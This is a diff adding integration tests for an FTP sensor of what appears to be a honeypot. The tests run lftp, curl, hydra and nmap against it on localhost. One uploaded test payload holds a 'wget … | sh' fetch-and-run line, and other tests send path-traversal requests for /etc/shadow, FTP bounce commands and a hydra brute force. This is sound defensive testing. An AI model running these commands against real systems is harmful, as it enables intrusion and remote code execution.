@@ -1,0 +1,209 @@
+"""The FTP sensor against real clients (lftp, curl, hydra, nmap) on 127.0.0.1.
+
+Each test runs the sensor on port 0 with an in-memory bus and asserts on the published events,
+on the shared fake host (what the SSH shell would show) and on what the clients saw.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import subprocess
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from phantomnet.bus.memory import MemoryBus
+from phantomnet.deception.host import FakeHost
+from phantomnet.deception.shell import run_command
+from phantomnet.detectors.brute_force import BruteForce, BruteForceConfig
+from phantomnet.events import AuthAttempt, CommandInput, Detection, FileUpload
+from phantomnet.sensors.base import SensorContext
+from phantomnet.sensors.ftp.sensor import FtpConfig, FtpSensor
+from tests.conftest import require_tool
+
+pytestmark = pytest.mark.integration
+
+
+class Running:
+    def __init__(self, sensor: FtpSensor, bus: MemoryBus) -> None:
+        self.sensor, self.bus = sensor, bus
+        self.sub = bus.subscribe("test")
+        self.seen: list[Any] = []
+
+    @property
+    def port(self) -> int:
+        assert self.sensor.bound_port is not None
+        return self.sensor.bound_port
+
+    @property
+    def host(self) -> FakeHost:
+        return self.sensor.host
+
+    async def events(self, kind: type, n: int = 1, timeout: float = 15) -> list[Any]:
+        async with asyncio.timeout(timeout):
+            while len([e for e in self.seen if isinstance(e, kind)]) < n:
+                self.seen.extend((await anext(self.sub)).events)
+        return [e for e in self.seen if isinstance(e, kind)]
+
+    async def drain(self) -> None:
+        await asyncio.sleep(0.2)
+        while True:
+            try:
+                batch = await asyncio.wait_for(anext(self.sub), 0.2)
+            except TimeoutError:
+                return
+            self.seen.extend(batch.events)
+
+
+@pytest.fixture
+async def ftp(tmp_path: Path) -> AsyncIterator[Running]:
+    bus = MemoryBus()
+    ctx = SensorContext(node="test", bus=bus, data_dir=tmp_path)
+    sensor = FtpSensor(FtpConfig(host="127.0.0.1", port=0, failed_login_delay_s=0.05), ctx)
+    await sensor.start()
+    task = asyncio.create_task(sensor.run())
+    yield Running(sensor, bus)
+    await sensor.stop()
+    task.cancel()
+
+
+async def run(*cmd: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
+    return await asyncio.to_thread(
+        subprocess.run, list(cmd), capture_output=True, text=True, timeout=timeout
+    )
+
+
+async def test_lftp_anonymous_upload_lands_in_the_fake_host(ftp: Running, tmp_path: Path) -> None:
+    require_tool("lftp")
+    payload = tmp_path / "payload.sh"
+    payload.write_bytes(b"#!/bin/sh\nwget http://203.0.113.5/x -O- | sh\n")
+    script = (
+        f"set ftp:passive-mode on; set net:max-retries 1; set net:timeout 10; "
+        f"quote SYST; quote FEAT; cd incoming; put {payload} -o up.sh; ls; bye"
+    )
+    result = await run(
+        "lftp", "-u", "anonymous,probe@example.org", "-p", str(ftp.port), "-e", script, "127.0.0.1"
+    )
+    assert result.returncode == 0, result.stderr
+    assert "215 UNIX Type: L8" in result.stdout
+    assert "up.sh" in result.stdout
+    upload = (await ftp.events(FileUpload))[0]
+    digest = hashlib.sha256(payload.read_bytes()).hexdigest()
+    assert (upload.sha256, upload.size, upload.protocol) == (digest, payload.stat().st_size, "ftp")
+    # the same attacker sees the file from the SSH shell of the same fake host
+    shown = await run_command(
+        "sha256sum /srv/ftp/incoming/up.sh", ftp.host, "127.0.0.1", user="root"
+    )
+    assert shown.output.split()[0].decode() == digest
+    auth = (await ftp.events(AuthAttempt))[0]
+    assert auth.method == "anonymous" and auth.accepted
+
+
+async def test_curl_passive_and_active_listing_and_download(ftp: Running) -> None:
+    require_tool("curl")
+    passive = await run("curl", "-sS", "--max-time", "20", f"ftp://127.0.0.1:{ftp.port}/")
+    assert passive.returncode == 0, passive.stderr
+    assert "incoming" in passive.stdout and passive.stdout.startswith("d")
+    active = await run(
+        "curl", "-sS", "--max-time", "20", "--ftp-port", "127.0.0.1", f"ftp://127.0.0.1:{ftp.port}/"
+    )
+    assert active.returncode == 0, active.stderr
+    assert "incoming" in active.stdout
+    commands = [e.command for e in await ftp.events(CommandInput, 10)]
+    assert any(c.startswith("EPSV") or c.startswith("PASV") for c in commands)
+    assert any(c.startswith("EPRT") or c.startswith("PORT") for c in commands)
+
+
+async def test_user_login_sees_persona_files_and_traversal_is_confined(ftp: Running) -> None:
+    require_tool("curl")
+    passwd = await run(
+        "curl",
+        "-sS",
+        "--max-time",
+        "20",
+        "-u",
+        "root:123456",
+        f"ftp://127.0.0.1:{ftp.port}/%2Fetc/passwd",
+    )
+    assert passwd.returncode == 0, passwd.stderr
+    shell = await run_command("cat /etc/passwd", ftp.host, "127.0.0.1", user="root")
+    assert passwd.stdout.encode() == shell.stdout
+    escape = await run(
+        "curl",
+        "-sS",
+        "--max-time",
+        "20",
+        "--path-as-is",
+        f"ftp://127.0.0.1:{ftp.port}/../../../etc/shadow",
+    )
+    assert escape.returncode != 0  # anonymous is chrooted in /srv/ftp: no /etc there
+    [det] = await ftp.events(Detection)
+    assert det.rule == "ftp_traversal" and det.protocol == "ftp"
+
+
+async def test_vsftpd_wording(ftp: Running) -> None:
+    reader, writer = await asyncio.open_connection("127.0.0.1", ftp.port)
+    banner = await reader.readline()
+    assert banner == b"220 (vsFTPd 3.0.3)\r\n"
+    writer.write(b"PASS x\r\nLIST\r\nFOO\r\nUSER root\r\nPASS wrong\r\nHELP\r\nQUIT\r\n")
+    data = (await asyncio.wait_for(reader.read(), 10)).decode().splitlines()
+    assert data[:5] == [
+        "503 Login with USER first.",
+        "530 Please login with USER and PASS.",
+        "500 Unknown command.",
+        "331 Please specify the password.",
+        "530 Login incorrect.",
+    ]
+    assert data[5] == "214-The following commands are recognized." and data[-1] == "221 Goodbye."
+    writer.close()
+
+
+async def test_ftp_bounce_is_refused(ftp: Running) -> None:
+    reader, writer = await asyncio.open_connection("127.0.0.1", ftp.port)
+    await reader.readline()
+    writer.write(
+        b"USER anonymous\r\nPASS a@b\r\nPORT 192,0,2,1,0,80\r\nEPRT |1|198.51.100.7|8080|\r\nQUIT\r\n"
+    )
+    lines = (await asyncio.wait_for(reader.read(), 10)).decode().splitlines()
+    assert "500 Illegal PORT command." in lines and "500 Bad EPRT command." in lines
+    writer.close()
+
+
+async def test_hydra_brute_force_is_detected(ftp: Running, tmp_path: Path) -> None:
+    require_tool("hydra")
+    users, words = tmp_path / "u.txt", tmp_path / "p.txt"
+    users.write_text("admin\n")
+    words.write_text("".join(f"guess{i}\n" for i in range(12)))
+    result = await run(
+        "hydra",
+        "-L",
+        str(users),
+        "-P",
+        str(words),
+        "-t",
+        "4",
+        "-w",
+        "5",
+        "-f",
+        "-s",
+        str(ftp.port),
+        "127.0.0.1",
+        "ftp",
+        timeout=120,
+    )
+    assert "0 valid password" in result.stdout or "valid password" not in result.stdout
+    await ftp.drain()
+    detector = BruteForce(BruteForceConfig(threshold=10, window_s=300), "test")
+    failures = [e for e in ftp.seen if isinstance(e, AuthAttempt) and not e.accepted]
+    assert len(failures) >= 12
+    found = [d for e in failures for d in detector.observe(e)]
+    assert found and found[0].protocol == "ftp" and found[0].src.ip == "127.0.0.1"
+
+
+async def test_nmap_identifies_vsftpd(ftp: Running) -> None:
+    require_tool("nmap")
+    result = await run("nmap", "-Pn", "-n", "-sV", "-p", str(ftp.port), "127.0.0.1", timeout=120)
+    assert "vsftpd 3.0.3" in result.stdout, result.stdout
